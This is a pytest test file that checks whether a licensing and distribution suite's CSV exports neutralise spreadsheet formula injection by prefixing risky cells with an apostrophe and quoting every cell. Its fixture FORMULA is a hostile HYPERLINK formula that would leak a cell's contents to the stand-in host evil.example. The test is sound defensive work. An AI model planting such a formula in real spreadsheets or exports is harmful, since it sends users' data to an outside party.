"""Formula injection in the CSV files the suite writes (security review, finding 5): a value
from a customer, a partner or staff that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return reaches the spreadsheet as text (a leading `'`), every cell quoted; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from licensing.importer import import_file

from shared.spreadsheet import FORMULA_PREFIXES, cell, document
from tests.distribution.conftest import distribution  # noqa: F401 (fixture)
from tests.licensing.conftest import ADDRESS, PRODUCT, licensing  # noqa: F401 (fixture)
from tests.support import valid_company_id

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klikněte")'


def rows_of(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff")  # a BOM: spreadsheet programs read the Czech letters right
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def assert_inert(text: str, delimiter: str = ",") -> list[list[str]]:
    """No cell a spreadsheet would run, and every cell quoted (so no value can open a new one)."""
    rows = rows_of(text, delimiter)
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES), f"a formula cell: {value!r}"
    for line in text.removeprefix("\ufeff").splitlines():
        assert line.startswith('"') and line.endswith('"'), f"an unquoted cell: {line!r}"
    return rows


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+420 777 123 456", "'+420 777 123 456"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Novák s.r.o.", "Novák s.r.o."),
        ("ABCDEF-GHJKMN-PQRST7", "ABCDEF-GHJKMN-PQRST7"),
        (-3, "-3"),  # a number we write as a number stays one
        (3, "3"),
        (None, ""),
    ],
)
def test_a_cell_that_looks_like_a_formula_is_written_as_text(value, written):
    assert cell(value) == written


def test_a_document_quotes_every_cell():
    text = document(["a", "b"], [["x,y", 'say "hi"'], [1, "=2"]])
    assert text == '\ufeff"a","b"\r\n"x,y","say ""hi"""\r\n"1","\'=2"\r\n'


def test_licenses_csv_carries_partner_and_product_names_as_text(licensing):  # noqa: F811
    assert (
        licensing.staff("POST", "/api/v1/admin/products", {**PRODUCT, "code": "vzorec", "name": "+1+1"}).status_code
        == 201
    )
    partner = licensing.staff("POST", "/api/v1/admin/partners", {"name": FORMULA}).get_json()
    number = licensing.customer(valid_company_id(5550001), "@Firma s.r.o.")
    licensing.member("u-csv", number)
    for product in ("ucetnictvi", "vzorec"):
        body = {"customer_number": number, "product": product, "edition": "Jazz", "support_until": "2030-01-01"}
        assert licensing.staff("POST", "/api/v1/admin/licenses", body).status_code == 201
    sale = {
        "partner_sale_id": "CSV-1",
        "customer": {
            "company_id": valid_company_id(5550001),
            "company_name": "@Firma s.r.o.",
            "billing_address": ADDRESS,
        },
        "product": "ucetnictvi",
        "edition": "Jazz",
        "add_ons": [],
        "seats": 1,
        "sold_on": "2026-11-20",
    }
    sold = licensing.sell(partner["api_key"], "csv-1", sale).get_json()
    registered = licensing.call(
        "POST",
        f"/api/v1/customers/{number}/product-registrations",
        {"installation_number": sold["installation_number"]},
        user="u-csv",
    )
    assert registered.status_code == 201, registered.get_json()

    answer = licensing.call("GET", f"/api/v1/customers/{number}/licenses.csv", user="u-csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = assert_inert(answer.get_data(as_text=True))
    header, *lines = rows
    shown = [dict(zip(header, line, strict=True)) for line in lines]
    assert "'+1+1" in {row["product_name"] for row in shown}
    assert "'" + FORMULA in {row["partner"] for row in shown}
    assert {row["seats"] for row in shown} == {"1"}


def test_the_shipping_list_carries_customers_addresses_as_text(distribution):  # noqa: F811
    address = {"street": "@Skladová 3", "city": "-Brno", "postal_code": "+60200", "country": "CZ"}
    distribution.customer("100001", FORMULA)
    distribution.license("100001", "AAAAAA-BBBBBB-CCCCC1")
    distribution.event(
        "identity.customer.contact_changed",
        {
            "customer_number": "100001",
            "company_name": FORMULA,
            "delivery_address": address,
            "delivery_method": "dvd",
            "version": 1,
        },
        "identity",
    )
    distribution.release(kind="full")
    answer = distribution.staff("GET", "/api/v1/admin/shipments.csv")
    assert answer.status_code == 200
    header, row = assert_inert(answer.get_data(as_text=True))
    shipment = dict(zip(header, row, strict=True))
    assert shipment["company_name"] == "'" + FORMULA
    assert (shipment["street"], shipment["city"], shipment["postal_code"]) == ("'@Skladová 3", "'-Brno", "'+60200")
    assert shipment["customer_number"] == "100001" and shipment["version"] == "2026.1"


def test_the_importers_output_carries_company_names_as_text(licensing, tmp_path):  # noqa: F811
    source = tmp_path / "sales.csv"
    company = valid_company_id(5550002)
    source.write_text(
        "company_id;company_name;street;city;postal_code;product;edition;seats\n"
        f'{company};"{FORMULA.replace(chr(34), chr(34) * 2)}";Dlouhá 1;Praha;11000;ucetnictvi;Jazz;2\n',
        encoding="utf-8",
    )
    result = import_file(licensing.database, source)
    assert result.ok, result.rejected
    header, row = assert_inert(result.output.read_text(encoding="utf-8"), delimiter=";")
    imported = dict(zip(header, row, strict=True))
    assert imported["company_name"] == "'" + FORMULA
    assert imported["seats"] == "2" and imported["line"] == "2" and imported["company_id"] == company
